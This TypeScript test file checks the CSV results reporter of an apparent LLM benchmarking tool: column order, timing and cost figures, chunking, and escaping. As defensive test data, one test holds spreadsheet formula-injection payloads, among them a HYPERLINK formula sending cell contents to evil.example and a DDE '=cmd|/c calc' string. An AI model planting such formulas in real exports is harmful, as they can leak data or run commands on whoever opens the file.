import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { makeAttempt } from '../stats/make-attempt.ts';
import type { ReportInput } from './reporter.ts';
import { renderCsv } from './render-csv.ts';
import { resultsColumns, resultsCsv, resultsCsvChunks } from './results-csv.ts';

const requiredColumns = [
  'dataset', 'case_id', 'target', 'prompt', 'repeat', 'attempt', 'final', 'status', 'error_type', 'http_status', 'ttft_ms',
  'first_output_ms', 'e2e_ms', 'output_tps', 'tpot_ms', 'inter_chunk_mean_ms', 'inter_chunk_p50_ms', 'inter_chunk_p99_ms',
  'input_tokens', 'output_tokens', 'cached_input_tokens', 'reasoning_tokens', 'tokens_estimated', 'cost_usd',
  'cost_source', 'finish_reason', 'served_by', 'score', 'passed', 'score_reason', 'error_message', 'started_at', 'output',
];

function render(records: ReportInput['records']): Record<string, string>[] {
  const text = resultsCsv.render({ records, summaries: [], comparisons: [], run: { runId: 'run-1', simulatedTargets: [] } });
  return parse(text, { columns: true });
}

describe('results.csv', () => {
  it('starts with the documented columns, in order', () => {
    const text = resultsCsv.render({ records: [], summaries: [], comparisons: [], run: { runId: 'run-1', simulatedTargets: [] } });
    const [header = []] = parse(text) as string[][];
    expect(header.slice(0, requiredColumns.length)).toEqual(requiredColumns);
  });

  it('writes one row per attempt with figures, and empty cells for unknown ones', () => {
    const rows = render([
      makeAttempt({
        caseId: 'capital', attempt: 1, final: false,
        error: { type: 'rate_limited', message: 'slow down', httpStatus: 429, retryAfterMs: 2000 },
        timing: { headersMs: 12.3456789 },
      }),
      makeAttempt({
        caseId: 'capital', attempt: 2, output: 'Paris',
        timing: { ttftMs: 123.456789, e2eMs: 1500, outputTps: 41.23456, tpotMs: 688.2716 },
        usage: { inputTokens: 12, outputTokens: 3, estimated: true },
        costUsd: 0.0000012, costSource: 'price-table', finishReason: 'stop',
        score: { score: 1, passed: true, reason: 'equals' },
      }),
    ]);
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({
      case_id: 'capital', attempt: '1', final: 'false', status: 'error', error_type: 'rate_limited',
      http_status: '429', error_message: 'slow down', retry_after_ms: '2000', headers_ms: '12.346',
      ttft_ms: '', output_tps: '', tpot_ms: '', cost_usd: '', score: '', passed: '', output: '',
    });
    expect(rows[1]).toMatchObject({
      attempt: '2', final: 'true', status: 'ok', error_type: '', ttft_ms: '123.457', e2e_ms: '1500',
      output_tps: '41.235', tpot_ms: '688.272', input_tokens: '12', output_tokens: '3', cached_input_tokens: '', tokens_estimated: 'true',
      cost_usd: '0.0000012', cost_source: 'price-table', score: '1', passed: 'true', score_reason: 'equals', output: 'Paris',
    });
  });

  it('names each row\'s dataset, so q1 of two datasets is two cases, and leaves it empty in a single-dataset run', () => {
    const rows = render([
      makeAttempt({ dataset: 'qa/smoke', caseId: 'q1', output: 'a' }),
      makeAttempt({ dataset: 'other', caseId: 'q1', output: 'b' }),
      makeAttempt({ caseId: 'q1', output: 'c' }),
      makeAttempt({ dataset: '=cmd', caseId: 'q2', output: 'd' }),
    ]);
    expect(rows.map((row) => [row.dataset, row.case_id, row.output])).toEqual([
      ['qa/smoke', 'q1', 'a'], ['other', 'q1', 'b'], ['', 'q1', 'c'], ["'=cmd", 'q2', 'd'],
    ]);
  });

  it('neutralises hostile model output and round-trips quotes and line breaks', () => {
    const outputs = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '  =1+1',
      '\u200B=cmd|/c calc',
      '@SUM(A1:A9)',
      '-2+3',
      'He said "hi",\nthen left\r\n',
    ];
    const rows = render(outputs.map((output, index) => makeAttempt({ caseId: `c${index}`, output })));
    expect(rows.map((row) => row.output)).toEqual([
      `'${outputs[0]}`, "'  =1+1", "'\u200B=cmd|/c calc", "'@SUM(A1:A9)", "'-2+3", 'He said "hi",\nthen left\r\n',
    ]);
  });

  it('neutralises every text column, not only the output', () => {
    const [row] = render([
      makeAttempt({ caseId: '=case', error: { type: 'unknown', message: '+evil' }, toolCalls: [{ name: 'x', arguments: {} }] }),
    ]);
    expect(row).toMatchObject({ case_id: "'=case", error_message: "'+evil", tool_calls: '[{"name":"x","arguments":{}}]' });
  });
  it('writes tool-call arguments nested 100,000 deep as … below 100 levels, instead of crashing with a RangeError', () => {
    const deep = JSON.parse(`${'['.repeat(100_000)}${']'.repeat(100_000)}`) as unknown;
    const [row] = render([makeAttempt({ caseId: 'deep', output: 'x', toolCalls: [{ name: 'x', arguments: deep }] })]);
    expect(row?.tool_calls).toContain('[[[["…"]]]]');
    expect(row?.tool_calls?.length).toBeLessThan(400);
  });

  it('comes in pieces of a thousand rows that join to the text of one rendering, hostile cells and all', () => {
    const records = Array.from({ length: 2_500 }, (_, index) =>
      makeAttempt({ caseId: `c${index}`, output: index % 3 === 0 ? `=SUM(A1)\n"quoted", line ${index}` : `answer ${index}` }));
    const chunks = [...resultsCsvChunks(records)];
    // The header, then 1,000 + 1,000 + 500 rows.
    expect(chunks).toHaveLength(4);
    expect(chunks.join('')).toBe(renderCsv(resultsColumns, records));
    const rows = parse(chunks.join(''), { columns: true }) as Array<Record<string, string>>;
    expect(rows.map((row) => row['case_id'])).toEqual(records.map((record) => record.caseId));
    expect(rows[0]!['output']).toBe(`'=SUM(A1)\n"quoted", line 0`);
  });
});

describe('results.csv of multi-call cases and gateway calls', () => {
  it('names each step, the case record\'s pipeline figures, and the gateway and cache fields', () => {
    const rows = render([
      makeAttempt({ caseId: 't1', step: '=classify', stepTarget: 'mock:4o', timing: { ttftMs: 100 }, usage: { inputTokens: 900, cachedInputTokens: 800, estimated: false }, listCostUsd: 0.001, gatewayCostUsd: 0.0012, generationId: 'gen_1', fallbacks: ['azure', 'openai'], credentialType: 'system' }),
      makeAttempt({ caseId: 't1', timing: { ttftMs: 300, e2eMs: 900 }, cacheBusted: true, pipeline: { kind: 'pipeline', steps: 3, answered: 2, attempts: 4, failedStep: 'draft', criticalPathMs: 900, sumOfStepsMs: 1200 } }),
    ]);
    expect(rows[0]).toMatchObject({ step: "'=classify", step_target: 'mock:4o', cached_input_tokens: '800', list_cost_usd: '0.001', gateway_cost_usd: '0.0012', generation_id: 'gen_1', fallbacks: 'azure;openai', credential_type: 'system', cache_busted: 'false', pipeline_kind: '' });
    expect(rows[1]).toMatchObject({ step: '', pipeline_kind: 'pipeline', critical_path_ms: '900', sum_of_steps_ms: '1200', pipeline_attempts: '4', failed_step: 'draft', cache_busted: 'true' });
  });
});
